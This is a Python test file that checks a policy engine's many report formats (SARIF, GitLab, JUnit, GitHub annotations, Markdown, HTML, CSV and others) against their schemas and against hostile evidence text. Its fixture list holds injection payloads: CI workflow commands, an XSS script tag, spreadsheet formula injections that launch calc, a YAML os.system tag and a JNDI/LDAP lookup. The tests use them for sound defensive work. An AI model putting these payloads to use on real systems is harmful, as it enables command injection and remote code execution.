"""Every format: valid by its schema, whole, and not to be broken by what evidence says."""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
from collections.abc import Callable, Sequence
from dataclasses import replace
from typing import Any
from xml.etree import ElementTree as ET

import jsonschema
import jsonschema_rs
import pytest
import yaml

from policyengine.model.severity import Severity
from policyengine.model.verdict import Outcome, Verdict
from policyengine.report import FORMATS, sarif
from policyengine.report.markdown import MOST_IN_COMMENT
from policyengine.resources import SCHEMAS
from tests.unit.report.html_page import Page
from tests.unit.report.verdicts import (
    ALLOWED,
    DENIED,
    MANY,
    SEVERAL,
    UNCOLLECTED,
    UNJUDGED,
    VULNERABLE,
    WAIVED,
    WARNED,
    Case,
    hostile,
    reason,
    value,
    verdict,
)

GITLAB = json.loads((SCHEMAS / "vendor/gitlab/container-scanning-15.0.2.json").read_text())
SARIF = json.loads((SCHEMAS / "vendor" / "sarif" / "sarif-2.1.0-rtm.5.json").read_text())
EVERY = (*SEVERAL, UNJUDGED, WAIVED, MANY)

HOSTILE_TEXTS = {
    "terminal": "\x1b[2J\x1b]0;title\x07\x9b31m\r\nALLOWED",
    "workflow command": "::set-output name=verdict::allowed\n::error::x\n##[add-mask]y",
    "workflow command behind spaces": "  ::stop-commands::abc",
    "azure command": "##vso[task.complete result=Succeeded]",
    "workflow property": "a,file=b::c%0Ad",
    "markdown": "|x|\n\n# h\n</details>`**[a](javascript:x)** ![i](http://e/i.png) @team #1 <b>",
    "html": '</script><script>alert(1)</script>"><img src=x onerror=y> &amp;',
    "xml": "]]></failure><testcase/>&lt;\x00\x0b\ufffe",
    "formula": '=HYPERLINK("http://e","x")',
    "formula behind a tab": "\t+cmd|' /C calc'!A0",
    "csv": 'a","b\r\nc;d',
    "yaml": "- !!python/object:os.system\n&a *a\n--- # x: {y}",
    "tap": "ok 2 # SKIP\nBail out!",
    "direction": "\u202etxt.exe\u2066\u200b\u2028",
    "half a character": "a\udcffb",
    "beyond the first plane": "\U0001f600\U000e0041",
    "log": "x\n2026-01-01 INFO verdict=allowed",
    "template": "{{7*7}}${jndi:ldap://e}%s%n",
    "long": "x" * 100_000,
}


def written(form: str, *verdicts: Verdict) -> str:
    return Case(verdicts=verdicts, format=form).report


def hostile_to(form: str, text: str) -> Verdict:
    """A verdict with ``text`` in every place; a value of a document is never half a character."""
    safe = text.encode("utf-8", "replace").decode()
    judged = hostile(safe)
    # A path is what the system gives: any bytes.
    return replace(judged, image=text)


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("name", HOSTILE_TEXTS)
def test_text_from_evidence_is_never_obeyed(form: str, name: str) -> None:
    report = written(form, hostile_to(form, HOSTILE_TEXTS[name]), ALLOWED)
    report.encode()
    allowed = {"\n", "\r"} if form == "csv" else {"\n"}
    if form not in {"json", "jsonl", "yaml", "conftest"}:
        assert {char for char in report if not char.isprintable()} <= allowed
    CHECKS[form](report, [hostile("x"), ALLOWED])


@pytest.mark.parametrize("form", FORMATS)
def test_a_report_of_every_kind_of_verdict_is_whole(form: str) -> None:
    CHECKS[form](written(form, *EVERY), EVERY)


@pytest.mark.parametrize("form", FORMATS)
def test_a_report_of_nothing_can_be_read(form: str) -> None:
    CHECKS[form](written(form), ())


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("judged", [UNJUDGED, UNCOLLECTED], ids=["unjudged", "uncollected"])
def test_what_was_not_judged_never_looks_allowed(form: str, judged: Verdict) -> None:
    assert FAILING[form](written(form, judged))
    assert FAILING[form](written(form, DENIED))
    assert not FAILING[form](written(form, ALLOWED))


@pytest.mark.parametrize("form", set(FORMATS) - {"text", "json", "jsonl", "yaml", "csv"})
def test_what_is_waived_or_known_does_not_fail(form: str) -> None:
    assert not FAILING[form](written(form, WAIVED))


# ---- what each format must be ----------------------------------------------------------------


def counted(verdicts: Sequence[Verdict], *names: str) -> int:
    return sum(len(getattr(judged, name)) for judged in verdicts for name in names)


def problems(verdicts: Sequence[Verdict]) -> int:
    return sum(judged.problem is not None for judged in verdicts)


def cases(verdicts: Sequence[Verdict]) -> int:
    """Test points: a rule that was judged, or was not, and an image that could not be."""
    rules = sum(len({rule.id for rule in judged.judged} | _reported(judged)) for judged in verdicts)
    return rules + counted(verdicts, "unjudged") + problems(verdicts)


def _reported(judged: Verdict) -> set[str]:
    found = (*judged.reasons, *judged.warnings, *judged.known)
    return {r.rule.id for r in (*found, *(item.reason for item in judged.waived))}


def check_text(report: str, verdicts: Sequence[Verdict]) -> None:
    for line in report.splitlines():
        assert not line.lstrip().startswith("::")
        assert "##[" not in line
        assert "##vso[" not in line
    outcomes = re.findall(r"(?m)^(?:ALLOWED|DENIED|INCOMPLETE): ", report)
    assert len(outcomes) == len(verdicts)


def check_json(report: str, verdicts: Sequence[Verdict]) -> None:
    assert len(json.loads(report)["verdicts"]) == len(verdicts)


def check_jsonl(report: str, verdicts: Sequence[Verdict]) -> None:
    rows = [json.loads(line) for line in report.split("\n")[:-1]]
    assert [len(row["reasons"]) for row in rows] == [len(v.reasons) for v in verdicts]


def check_yaml(report: str, verdicts: Sequence[Verdict]) -> None:
    document = yaml.load(report, Loader=yaml.CSafeLoader)
    assert [len(v["reasons"]) for v in document["verdicts"] or []] == [
        len(v.reasons) for v in verdicts
    ]


def check_csv(report: str, verdicts: Sequence[Verdict]) -> None:
    rows = list(csv.reader(io.StringIO(report, newline=""), strict=True))
    silent = sum(
        not counted([v], "reasons", "warnings", "waived", "known", "unjudged") and not v.problem
        for v in verdicts
    )
    listed = counted(verdicts, "reasons", "warnings", "waived", "known", "unjudged")
    assert len(rows) == 1 + listed + problems(verdicts) + silent
    assert len({len(row) for row in rows}) == 1
    assert not any(cell[:1] in set("=+-@\t\r|%") for row in rows for cell in row)


def check_junit(report: str, verdicts: Sequence[Verdict]) -> None:
    root = ET.fromstring(report)
    found = list(root.iter("testcase"))
    assert len(found) == cases(verdicts) == int(root.attrib["tests"])
    assert len(list(root.iter("testsuite"))) == len(verdicts)
    for name, tag in (("failures", "failure"), ("errors", "error"), ("skipped", "skipped")):
        assert int(root.attrib[name]) == len(list(root.iter(tag)))


COMMAND = re.compile(r"::(error|warning|notice) (title=[^,:\n]*(,file=[^,:\n]*(,line=\d+)?)?)::.*")


def check_github(report: str, verdicts: Sequence[Verdict]) -> None:
    lines = report.split("\n")[:-1]
    assert all(COMMAND.fullmatch(line) for line in lines), lines
    listed = counted(verdicts, "reasons", "warnings", "waived", "known", "unjudged")
    allowed = sum(judged.outcome is Outcome.ALLOWED for judged in verdicts)
    assert len(lines) == listed + problems(verdicts) + allowed


def check_azure(report: str, verdicts: Sequence[Verdict]) -> None:
    lines = report.split("\n")[:-1]
    assert all(re.fullmatch(r"##vso\[task\.logissue [^\]]*\].*", line) for line in lines)
    assert all(line.split("]")[0].count("type=") == 1 for line in lines)
    listed = counted(verdicts, "reasons", "warnings", "unjudged")
    assert len(lines) == listed + problems(verdicts)


def check_markdown(report: str, verdicts: Sequence[Verdict]) -> None:
    tags = set(re.findall(r"<[^>]*>", report))
    assert tags <= {"<!-- -->", "<sub>", "</sub>", "<details>", "</details>", "</summary>"} | {
        "<summary>"
    }
    assert report.count("<details>") == report.count("</details>")
    plain = report.replace("<!-- -->", "\x00")
    assert not re.search(r"@\w|(?<!&)#\d|://|(?i:www\.)", plain)
    rows = [line for line in report.splitlines() if line.startswith("|")]
    assert all(len(re.findall(r"\|", row)) == 6 for row in rows)
    assert len(re.findall(r"(?m)^### ", report)) == (len(verdicts) or 0)


def check_html(report: str, verdicts: Sequence[Verdict]) -> None:
    page = Page.of(report)
    assert page.scripts == 2  # the data, and what draws it
    assert [len(page.data["reasons"]), len(page.data["images"])] == [
        counted(verdicts, "reasons", "warnings", "waived", "known"),
        len(verdicts),
    ]
    assert page.rows["judged-by"] == len(verdicts)
    assert page.rows["unjudged"] == counted(verdicts, "unjudged") + problems(verdicts)
    assert page.rows["evidence"] == counted(verdicts, "sources")


def check_tap(report: str, verdicts: Sequence[Verdict]) -> None:
    lines = report.splitlines()
    assert lines[0] == "TAP version 14"
    points = [line for line in lines if re.match(r"(not )?ok \d+ - ", line)]
    assert lines[1] == f"1..{len(points)}"
    assert len(points) == cases(verdicts)
    rest = [line for line in lines[2:] if line not in points]
    assert all(line.startswith("  ") for line in rest)


def check_conftest(report: str, verdicts: Sequence[Verdict]) -> None:
    found = json.loads(report)
    failures = sum(len(item.get("failures", ())) for item in found)
    assert failures == counted(verdicts, "reasons", "unjudged") + problems(verdicts)


def check_sarif(report: str, verdicts: Sequence[Verdict]) -> None:
    log = json.loads(report)
    # The schema has a pattern that only Python's regular expressions read.
    jsonschema.Draft4Validator(SARIF).validate(log)
    (run,) = log["runs"]
    listed = counted(verdicts, "reasons", "warnings", "waived", "known", "unjudged")
    assert len(run["results"]) == listed + problems(verdicts)
    rules = run["tool"]["driver"]["rules"]
    assert all(rules[found["ruleIndex"]]["id"] == found["ruleId"] for found in run["results"])


def check_gitlab(report: str, verdicts: Sequence[Verdict]) -> None:
    document = json.loads(report)
    jsonschema_rs.validator_for(GITLAB).validate(document)
    found = document["vulnerabilities"]
    listed = counted(verdicts, "reasons", "warnings", "unjudged")
    assert len(found) == listed + problems(verdicts)


def check_code_quality(report: str, verdicts: Sequence[Verdict]) -> None:
    found = json.loads(report)
    assert len(found) == counted(verdicts, "reasons", "warnings", "unjudged") + problems(verdicts)
    for issue in found:
        assert issue["severity"] in {"info", "minor", "major", "critical", "blocker"}
        assert issue["location"]["lines"]["begin"] >= 1
        assert re.fullmatch("[0-9a-f]{64}", issue["fingerprint"])


def check_sonarqube(report: str, verdicts: Sequence[Verdict]) -> None:
    document = json.loads(report)
    rules = {rule["id"] for rule in document["rules"]}
    assert {issue["ruleId"] for issue in document["issues"]} == rules
    listed = counted(verdicts, "reasons", "warnings", "unjudged")
    assert len(document["issues"]) == listed + problems(verdicts)
    assert all(issue["primaryLocation"]["filePath"] for issue in document["issues"])


CHECKS: dict[str, Callable[[str, Sequence[Verdict]], None]] = {
    "text": check_text,
    "json": check_json,
    "jsonl": check_jsonl,
    "yaml": check_yaml,
    "csv": check_csv,
    "sarif": check_sarif,
    "gitlab": check_gitlab,
    "gitlab-codequality": check_code_quality,
    "junit": check_junit,
    "github": check_github,
    "azure": check_azure,
    "github-summary": check_markdown,
    "markdown": check_markdown,
    "html": check_html,
    "tap": check_tap,
    "sonarqube": check_sonarqube,
    "conftest": check_conftest,
}


def _unsuppressed(report: str) -> list[Any]:
    results: list[Any] = json.loads(report)["runs"][0]["results"]
    return [found for found in results if "suppressions" not in found]


FAILING: dict[str, Callable[[str], bool]] = {
    "text": lambda r: "ALLOWED" not in r,
    "json": lambda r: json.loads(r)["summary"]["allowed"] == 0,
    "jsonl": lambda r: json.loads(r)["outcome"] != "allowed",
    "yaml": lambda r: yaml.safe_load(r)["summary"]["allowed"] == 0,
    "csv": lambda r: ",allowed," not in r,
    "sarif": lambda r: any(found["level"] == "error" for found in _unsuppressed(r)),
    "gitlab": lambda r: bool(json.loads(r)["vulnerabilities"]),
    "gitlab-codequality": lambda r: bool(json.loads(r)),
    "junit": lambda r: "<failure" in r or "<error" in r,
    "github": lambda r: "::error " in r,
    "azure": lambda r: "type=error" in r,
    "github-summary": lambda r: ":white_check_mark:" not in r,
    "markdown": lambda r: ":white_check_mark:" not in r,
    "html": lambda r: 'data-outcome="allowed"' not in r,
    "tap": lambda r: any(
        line.startswith("not ok") and "# TODO" not in line for line in r.splitlines()
    ),
    "sonarqube": lambda r: bool(json.loads(r)["issues"]),
    "conftest": lambda r: any(item.get("failures") for item in json.loads(r)),
}


# ---- limits ----------------------------------------------------------------------------------


def many(number: int, text: str = "") -> Verdict:
    return verdict(
        Outcome.DENIED,
        reasons=tuple(
            reason(
                VULNERABLE,
                message=f"CVE-2026-{index} {text}",
                severity=Severity.LOW if index % 2 else Severity.HIGH,
                values=(value(f"/scan/vulnerabilities/{index}"),),
                details={"vulnerability": f"CVE-2026-{index}", "package": "libc6"},
            )
            for index in range(number)
        ),
    )


def test_code_scanning_gets_no_more_results_than_it_takes_and_is_told() -> None:
    log = json.loads(written("sarif", many(sarif.MOST_RESULTS + 10)))
    (run,) = log["runs"]
    assert len(run["results"]) == sarif.MOST_RESULTS
    (invocation,) = run["invocations"]
    assert invocation["executionSuccessful"] is False
    (note,) = invocation["toolExecutionNotifications"]
    assert note["message"]["text"].startswith("10 results were left out")
    severities = [found["properties"]["severity"] for found in run["results"]]
    assert severities.count("low") == sarif.MOST_RESULTS // 2 - 5


def test_code_scanning_gets_no_more_bytes_than_it_takes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sarif, "MOST_PACKED", 20_000)
    report = written("sarif", many(3000))
    assert len(gzip.compress(report.encode())) <= 20_000
    (run,) = json.loads(report)["runs"]
    kept = len(run["results"])
    assert 0 < kept < 3000
    note = run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"]
    assert note.startswith(f"{3000 - kept} results were left out")


@pytest.mark.parametrize(
    "verdicts",
    [
        pytest.param((many(5000, "|" * 400),), id="one image with many long reasons"),
        pytest.param((DENIED,) * 2000, id="many images"),
        pytest.param((many(1),) * 100, id="a hundred images"),
        pytest.param((hostile("x" * 100_000),), id="endless names"),
    ],
)
def test_a_comment_is_never_longer_than_a_pull_request_takes(
    verdicts: tuple[Verdict, ...],
) -> None:
    report = written("markdown", *verdicts)
    assert len(report) <= MOST_IN_COMMENT < 65_536
    assert report.count("<details>") == report.count("</details>")


def test_a_comment_says_how_many_reasons_it_leaves_out() -> None:
    report = written("markdown", many(5000, "text " * 50))
    found = re.search(r"(\d+) more are in the report for programs", report)
    assert found is not None
    assert int(found[1]) + report.count("\n| ") - report.count("| | rule") == 5000


def test_two_findings_of_one_kind_are_two_for_gitlab() -> None:
    twice = verdict(
        Outcome.DENIED,
        reasons=tuple(
            reason(
                details={"vulnerability": "CVE-1"}, values=(value(f"/scan/vulnerabilities/{i}"),)
            )
            for i in range(2)
        ),
    )
    found = json.loads(written("gitlab", twice))["vulnerabilities"]
    assert len({item["id"] for item in found}) == 2


def test_yaml_is_the_same_document_as_json() -> None:
    assert yaml.safe_load(written("yaml", *EVERY)) == json.loads(written("json", *EVERY))


def test_a_warning_alone_fails_no_test_case() -> None:
    assert not FAILING["junit"](written("junit", WARNED))
    assert not FAILING["tap"](written("tap", WARNED))
